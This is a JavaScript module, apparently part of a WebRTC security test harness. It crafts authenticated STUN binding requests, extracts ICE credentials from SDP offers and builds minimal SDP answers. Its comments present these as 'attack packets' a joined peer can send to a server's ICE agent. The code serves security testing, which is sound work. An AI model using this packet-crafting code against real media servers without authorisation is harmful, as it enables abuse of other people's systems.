// STUN binding requests as an ICE agent sends them (RFC 8445 §7.1.2):
// USERNAME "<server ufrag>:<our ufrag>", PRIORITY, ICE-CONTROLLING,
// MESSAGE-INTEGRITY keyed with the server's ice-pwd, FINGERPRINT. An
// attacker who joined knows its own ufrag and password (they are in its
// offer), so the attack packets are valid, not just well-formed.

import crypto from 'node:crypto';
import zlib from 'node:zlib';

const COOKIE = 0x2112a442;
const attr = (type, value) => {
  const pad = (4 - (value.length % 4)) % 4;
  const b = Buffer.alloc(4 + value.length + pad);
  b.writeUInt16BE(type, 0);
  b.writeUInt16BE(value.length, 2);
  value.copy(b, 4);
  return b;
};

/** A binding request for `serverUfrag`, signed with `serverPwd`. */
export function bindingRequest(serverUfrag, serverPwd, clientUfrag = 'atk0') {
  const txid = crypto.randomBytes(12);
  const prio = Buffer.alloc(4);
  prio.writeUInt32BE(0x6e0001ff);
  const tie = crypto.randomBytes(8);
  let attrs = Buffer.concat([
    attr(0x0006, Buffer.from(`${serverUfrag}:${clientUfrag}`)),
    attr(0x0024, prio),
    attr(0x802a, tie),
  ]);
  const header = (bodyLen) => {
    const h = Buffer.alloc(20);
    h.writeUInt16BE(0x0001, 0);
    h.writeUInt16BE(bodyLen, 2);
    h.writeUInt32BE(COOKIE, 4);
    txid.copy(h, 8);
    return h;
  };
  // MESSAGE-INTEGRITY covers the header with the length including itself.
  const hmac = crypto
    .createHmac('sha1', serverPwd)
    .update(Buffer.concat([header(attrs.length + 24), attrs]))
    .digest();
  attrs = Buffer.concat([attrs, attr(0x0008, hmac)]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE((zlib.crc32(Buffer.concat([header(attrs.length + 8), attrs])) ^ 0x5354554e) >>> 0);
  attrs = Buffer.concat([attrs, attr(0x8028, crc)]);
  return { packet: Buffer.concat([header(attrs.length), attrs]), txid };
}

/** Is `packet` a binding success response to `txid`? */
export function isSuccessFor(packet, txid) {
  return packet.length >= 20 && packet.readUInt16BE(0) === 0x0101 && packet.subarray(8, 20).equals(txid);
}

/** ICE credentials and candidates of an SDP offer. */
export function iceOf(sdp) {
  const ufrag = sdp.match(/a=ice-ufrag:(\S+)/)?.[1];
  const pwd = sdp.match(/a=ice-pwd:(\S+)/)?.[1];
  const udp = [];
  const tcp = [];
  for (const m of sdp.matchAll(/a=candidate:\S+ \d+ (udp|tcp) \d+ (\S+) (\d+) typ host(.*)/gi)) {
    const c = { ip: m[2], port: Number(m[3]) };
    if (m[1].toLowerCase() === 'udp') udp.push(c);
    else if (!/tcptype active/.test(m[4])) tcp.push(c);
  }
  return { ufrag, pwd, udp, tcp };
}

/** RFC 4571 framing for ICE-TCP. */
export const framed = (packet) => {
  const len = Buffer.alloc(2);
  len.writeUInt16BE(packet.length);
  return Buffer.concat([len, packet]);
};

/**
 * A minimal SDP answer to `offer` with our ICE credentials (`ufrag`, and a
 * password derived from it): enough for the server's ICE agent to know
 * whose binding requests to answer. Receives what the server sends, sends
 * nothing (the attack and the ICE-TCP check need connectivity, not media).
 */
export function answerFor(offer, ufrag) {
  const out = [];
  for (const line of offer.split(/\r?\n/)) {
    if (!line) continue;
    if (/^a=(candidate|end-of-candidates|ice-lite|ssrc|ssrc-group|msid|rid|simulcast|extmap-allow-mixed)/.test(line)) continue;
    if (line.startsWith('a=ice-ufrag:')) out.push(`a=ice-ufrag:${ufrag}`);
    else if (line.startsWith('a=ice-pwd:')) out.push(`a=ice-pwd:${passwordFor(ufrag)}`);
    else if (line.startsWith('a=setup:')) out.push('a=setup:active');
    else if (line === 'a=recvonly') out.push('a=inactive');
    else if (line === 'a=sendonly') out.push('a=recvonly');
    else out.push(line);
  }
  return `${out.join('\r\n')}\r\n`;
}

/** The ICE password `answerFor` announces for `ufrag`. */
export const passwordFor = (ufrag) => `pw${ufrag}`.padEnd(24, 'x');
